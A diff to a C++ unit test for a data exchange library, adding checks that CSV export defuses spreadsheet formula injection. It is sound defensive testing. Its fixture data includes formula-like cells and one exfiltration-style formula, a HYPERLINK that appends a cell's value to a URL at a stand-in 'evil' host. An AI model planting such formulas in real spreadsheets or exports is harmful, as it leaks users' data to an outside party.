@@ -4,6 +4,7 @@
 #include <cstdio>
 #include <string>
 
+#include "exchange/csv.h"
 #include "exchange/exchange.h"
 #include "store/sqlite/sqlite_store.h"
 
@@ -11,6 +12,7 @@ namespace trellis::exchange {
 namespace {
 
 using ::testing::HasSubstr;
+using ::testing::Not;
 using ::testing::StartsWith;
 
 const Date kToday = *Date::FromYmd(2026, 11, 23);
@@ -78,22 +80,83 @@ class ExportTest : public ::testing::Test {
        "S001,S002,2020-09-01,\n"},
   };
 
+  // Exports every kind as CSV and imports each file back, expecting every row unchanged.
+  void ExpectEveryKindReimportsUnchanged() {
+    for (const auto& [kind, file] : kFiles) {
+      auto csv = Export(*store_, kind, trust_, Format::kCsv, kToday);
+      ASSERT_TRUE(csv) << KindCode(kind) << ": " << csv.error().message;
+      EXPECT_THAT(*csv, StartsWith("\xEF\xBB\xBF"));
+      auto report = Import(*store_, kind, *csv, Options());
+      ASSERT_TRUE(report) << KindCode(kind) << ": " << report.error().message;
+      EXPECT_EQ(report->created + report->updated, 0) << KindCode(kind) << "\n" << *csv;
+      EXPECT_GT(report->unchanged, 0) << KindCode(kind);
+      EXPECT_EQ(report->unchanged, report->rows) << KindCode(kind);
+    }
+  }
+
   std::string path_;
   std::unique_ptr<store::Store> store_;
   TrustId trust_;
 };
 
-TEST_F(ExportTest, EveryKindExportsAndReimportsUnchanged) {
+TEST_F(ExportTest, EveryKindExportsAndReimportsUnchanged) { ExpectEveryKindReimportsUnchanged(); }
+
+// Records whose text a spreadsheet would run as a formula, in every kind that has text.
+constexpr std::pair<Kind, std::string_view> kFormulaLikeFiles[] = {
+    {Kind::kSchools,
+     "urn,name,phase,local_authority\n"
+     "140003,=1+1,-Primary,@Leeds\n"},
+    {Kind::kBodies,
+     "name,kind,parent\n"
+     "@Audit,committee,Board of Directors\n"},
+    {Kind::kPeople,
+     "reference,given_name,family_name,email\n"
+     "=1+1,\"=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"x\"\")\",+Smith,-x@oak.example\n"
+     "S003,''=x,''-'y,\n"},  // stores "'=x" and "'-'y" (the file guards them)
+    {Kind::kPosts,
+     "reference,title,body,family\n"
+     "-P1,@Clerk,@Audit,governance\n"},
+    {Kind::kHoldings,
+     "post_reference,person_reference,start\n"
+     "-P1,=1+1,2024-09-01\n"},
+    {Kind::kMemberships,
+     "body,person_reference,role,term_start\n"
+     "@Audit,=1+1,member,2024-09-01\n"},
+    {Kind::kLineLinks,
+     "manager_reference,report_reference,start\n"
+     "S001,=1+1,2024-09-01\n"},
+};
+
+TEST_F(ExportTest, CsvWritesTextThatLooksLikeAFormulaBehindAQuote) {
+  for (const auto& [kind, file] : kFormulaLikeFiles) {
+    auto report = Import(*store_, kind, file, Options());
+    ASSERT_TRUE(report) << KindCode(kind) << ": " << report.error().message;
+  }
+  auto person = store_->FindPersonByReference(trust_, "S003");
+  ASSERT_TRUE(person && *person);
+  EXPECT_EQ((*person)->given_name, "'=x");  // the import took one quote off, and only one
+  EXPECT_EQ((*person)->family_name, "'-'y");
+
+  auto people = Export(*store_, Kind::kPeople, trust_, Format::kCsv, kToday);
+  ASSERT_TRUE(people);
+  EXPECT_THAT(*people, HasSubstr("\r\n'=1+1,\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"x\"\")\","
+                                 "'+Smith,'-x@oak.example,,,\r\n"));
+  EXPECT_THAT(*people, HasSubstr("\r\nS003,''=x,''-'y,,"));
+  EXPECT_THAT(*people, HasSubstr("\r\nS001,Ada,Lovelace,,"));  // other text as it was
+
+  // No cell of any export starts as a formula would.
   for (const auto& [kind, file] : kFiles) {
     auto csv = Export(*store_, kind, trust_, Format::kCsv, kToday);
-    ASSERT_TRUE(csv) << KindCode(kind) << ": " << csv.error().message;
-    EXPECT_THAT(*csv, StartsWith("\xEF\xBB\xBF"));
-    auto report = Import(*store_, kind, *csv, Options());
-    ASSERT_TRUE(report) << KindCode(kind) << ": " << report.error().message;
-    EXPECT_EQ(report->created + report->updated, 0) << KindCode(kind) << "\n" << *csv;
-    EXPECT_GT(report->unchanged, 0) << KindCode(kind);
-    EXPECT_EQ(report->unchanged, report->rows) << KindCode(kind);
+    ASSERT_TRUE(csv) << KindCode(kind);
+    const auto table = csv::Parse(std::string_view(*csv).substr(3));
+    EXPECT_THAT(table.issues, ::testing::IsEmpty());
+    for (const auto& record : table.records)
+      for (const auto& cell : record)
+        EXPECT_THAT(std::string(cell.empty() ? "" : cell.substr(0, 1)),
+                    Not(::testing::AnyOf("=", "+", "-", "@", "\t", "\r")))
+            << KindCode(kind) << ": " << cell;
   }
+  ExpectEveryKindReimportsUnchanged();
 }
 
 TEST_F(ExportTest, CsvHasTheImportHeadersAndQuotesWhatNeedsIt) {
